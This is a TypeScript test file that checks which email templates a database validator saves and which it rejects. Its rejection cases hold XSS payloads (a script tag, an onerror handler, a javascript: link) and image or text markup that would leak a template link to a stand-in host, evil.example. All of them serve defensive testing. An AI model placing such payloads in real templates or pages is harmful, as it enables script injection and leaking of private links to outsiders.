import { beforeAll, describe, expect, it } from 'vitest';
import { prepareCastDatabase } from '../fixtures/cast-database.ts';

const database = prepareCastDatabase();

beforeAll(async () => {
  const text = { en: 'Hi {{ first_name }}', sv: 'Hej {{ first_name }}' };
  await database.client.query(
    `insert into public.email_templates (key, sent_when, subject, body, default_subject, default_body, variables)
     values ('greeting', $1, $1, $1, $1, $1, '{first_name,link,message}')`,
    [text],
  );
});

/** Saves like the function of the server; no other role may. */
const save = (body: string, language = 'sv') =>
  database.client.query(
    `update public.email_templates set body = jsonb_set(body, array[$2], to_jsonb($1::text)) where key = 'greeting'`,
    [body, language],
  );

describe('a template is saved', () => {
  it.each([
    ['with the variables it knows', '{{ first_name }} {{link}} {{- message -}}'],
    [
      'with conditions',
      '{% if message and first_name != "x" %}{{ message }}{% else %}-{% endif %}',
    ],
    ['with filters and their options', `{{ first_name | default: 'you' | truncate: 20, "…" }}`],
    ['with a link', `<a class="button" href="{{ link }}">{{ link }}</a><a href='{{link}}'>x</a>`],
    ['with words that only look like names', '<p class="button">first name, salary</p>'],
  ])('%s', async (_, body) => {
    expect((await save(body)).rowCount).toBe(1);
  });
});

describe('a template is rejected', () => {
  it.each([
    ['that uses an unknown name', '{{ salary }}', /does not know: salary/],
    ['that asks for an unknown name', '{% if salary %}x{% endif %}', /does not know: salary/],
    ['that hands one to a filter', '{{ first_name | append: salary }}', /does not know: salary/],
    ['that reads files', '{% include "package.json" %}', /conditions only/],
    ['that loops', '{% for x in message %}x{% endfor %}', /conditions only/],
    ['that assigns', '{%- assign x = 1 -%}', /conditions only/],
    ['that holds a script', '<script>alert(1)</script>', /cannot hold scripts/],
    ['that holds a handler', '<img src="x" onerror="alert(1)">', /cannot hold scripts/],
    [
      'that sends a link to another host',
      '<img src="https://evil.example/p?{{ link }}">',
      /stands by itself/,
    ],
    ['that lengthens a URL', '<p>https://evil.example/?{{link}}</p>', /stands by itself/],
    ['that changes a link', '{{ link | prepend: "x" }}', /stands by itself/],
    ['that leads into code', '<a href="javascript:alert(1)">x</a>', /cannot hold scripts/],
  ])('%s', async (_, body, message) => {
    await expect(save(body)).rejects.toThrow(message);
    await expect(save(body, 'en')).rejects.toThrow(message);
  });
});
